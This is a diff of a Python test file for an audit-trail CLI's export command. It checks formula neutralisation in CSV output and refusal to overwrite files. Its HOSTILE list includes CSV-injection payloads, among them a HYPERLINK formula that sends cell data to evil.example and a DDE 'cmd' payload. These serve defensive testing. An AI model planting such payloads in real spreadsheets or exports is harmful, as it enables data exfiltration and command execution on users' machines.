@@ -1,5 +1,6 @@
 """`attest trail export`: CSV cells never run as spreadsheet formulas, the JSON stays exact, and the output file is
 whole or absent, never an input, never replaced without --force."""
+
 from __future__ import annotations
 
 import csv
@@ -16,8 +17,17 @@ from audit.trail import Workspace, export_trail, verify_export
 from cli.main import main
 from tests.records.records_helpers import digests
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
-           "-2+3", "\tTAB", "\rCR", "plain text", "a=b", " =not at start"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "@SUM(A1:A9)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "\tTAB",
+    "\rCR",
+    "plain text",
+    "a=b",
+    " =not at start",
+]
 
 
 def cli(capsys, *argv) -> tuple[int, str, str]:
@@ -36,10 +46,23 @@ def hostile_ws(tmp_path: Path) -> Path:
     return path
 
 
-@pytest.mark.parametrize("value, expected", [
-    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("x=1", "x=1"), ("", ""), (" =1", " =1"), (12, 12), (-3, -3), (None, None),
-])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("x=1", "x=1"),
+        ("", ""),
+        (" =1", " =1"),
+        (12, 12),
+        (-3, -3),
+        (None, None),
+    ],
+)
 def test_spreadsheet_safe_follows_owasp(value, expected) -> None:
     assert spreadsheet_safe(value) == expected
 
@@ -66,24 +89,24 @@ def test_csv_export_neutralises_formulas_and_json_stays_exact(capsys, hostile_ws
     assert data["events"][1]["event"]["actor"]["name"] == HOSTILE[0]
 
 
-def test_export_refuses_to_overwrite_the_workspace_or_an_existing_file(capsys, hostile_ws: Path,
-                                                                      tmp_path: Path) -> None:
+def test_export_refuses_to_overwrite_the_workspace_or_an_existing_file(capsys, hostile_ws: Path, tmp_path: Path) -> None:
     before = digests(hostile_ws)
     link = tmp_path / "alias.json"
     os.link(hostile_ws, link)  # another name for the same file
     for target in (hostile_ws, link):
         rc, _, err = cli(capsys, "trail", "export", "--format", "json", "-o", target, "--workspace", hostile_ws)
         assert rc == 2
-        assert (f"error: --output {target} is the workspace (--workspace) of this run: writing there would destroy "
-                "it. Nothing was written.") in err
+        assert (
+            f"error: --output {target} is the workspace (--workspace) of this run: writing there would destroy "
+            "it. Nothing was written."
+        ) in err
     assert digests(hostile_ws) == before
     existing = tmp_path / "old.csv"
     existing.write_text("keep me")
     rc, _, err = cli(capsys, "trail", "export", "--format", "csv", "-o", existing, "--workspace", hostile_ws)
     assert rc == 2 and f"error: --output {existing} exists already; it was left as it is." in err
     assert "Add --force to replace it" in err and existing.read_text() == "keep me"
-    rc, _, err = cli(capsys, "trail", "export", "--format", "csv", "-o", existing, "--force",
-                     "--workspace", hostile_ws)
+    rc, _, err = cli(capsys, "trail", "export", "--format", "csv", "-o", existing, "--force", "--workspace", hostile_ws)
     assert rc == 0 and existing.read_text().startswith("seq,time,kind")
     rc, _, err = cli(capsys, "trail", "export", "--format", "csv", "-o", tmp_path, "--workspace", hostile_ws)
     assert rc == 2 and f"error: --output {tmp_path} is a folder, not a file." in err
